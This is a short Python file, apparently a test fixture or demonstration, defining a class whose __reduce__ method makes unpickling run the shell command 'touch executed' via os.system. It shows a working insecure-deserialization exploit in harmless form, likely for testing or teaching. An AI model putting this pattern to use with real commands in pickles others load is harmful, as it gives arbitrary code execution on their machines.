"""A pickle that runs a command when it is loaded the careless way."""

from __future__ import annotations

import os
from typing import Any


class Malicious:
    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, ("touch executed",)
